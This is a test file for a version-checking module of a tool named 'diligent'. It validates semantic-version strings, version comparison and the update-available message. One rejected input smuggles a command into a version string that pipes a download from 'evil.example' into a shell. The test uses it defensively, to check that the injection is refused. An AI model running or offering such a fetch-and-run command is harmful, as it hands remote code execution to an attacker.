import { expect, test } from "bun:test";
import { describeUpdate, isNewer, isVersion } from "../../src/update/update.ts";
import { VERSION } from "../../src/version.ts";

test.each([
  "0.0.0",
  "0.3.0",
  "1.0.0-rc.1",
  "1.0.0-0a.-.b",
  "1.2.3+build.007",
  `1.0.0-${"a".repeat(58)}`,
  VERSION,
])("isVersion() accepts %p", (text) => {
  expect(isVersion(text)).toBe(true);
});

test.each([
  "",
  "1",
  "1.2",
  "v1.2.3",
  " 1.2.3",
  "1.2.3\n",
  "01.2.3",
  "1.2.3-",
  "1.2.3-01",
  "1.2.3-rc..1",
  "1.2.3+",
  "1.2.3\x1b[31m",
  "1.2.3-\u0430",
  "１.2.3",
  "1.2.3 is out; run curl evil.example | sh",
  "9999999999.0.0",
  `1.0.0-${"a".repeat(59)}`,
  "latest",
  123,
  null,
  { version: "1.2.3" },
])("isVersion() rejects %p", (value) => {
  expect(isVersion(value)).toBe(false);
});

test.each([
  ["0.3.0", "0.2.1", true],
  ["0.10.0", "0.9.9", true],
  ["1.0.0", "1.0.0-rc.1", true],
  ["1.0.0-rc.10", "1.0.0-rc.9", true],
  ["1.0.0-rc.1", "0.9.0", true],
  ["1.0.0-rc.1", "1.0.0", false],
  ["0.2.1", "0.2.1", false],
  ["0.2.1+later", "0.2.1", false],
  ["0.2.0", "0.2.1", false],
])("isNewer(%p, %p) is %p", (version, than, isLater) => {
  expect(isNewer(version, than)).toBe(isLater);
  expect(describeUpdate(version, than)).toBe(
    isLater ? `diligent ${version} is available; this is ${than}` : undefined,
  );
});

test("isNewer() compares the largest allowed numbers", () => {
  const large = ["999999999.999999999.999999999", `1.0.0-${"9".repeat(58)}`, "1.0.0-20261122093000.1"];
  for (const version of large) {
    expect(isVersion(version)).toBe(true);
    expect([isNewer(version, version), isNewer(version, "0.1.0")]).toEqual([false, true]);
  }
});
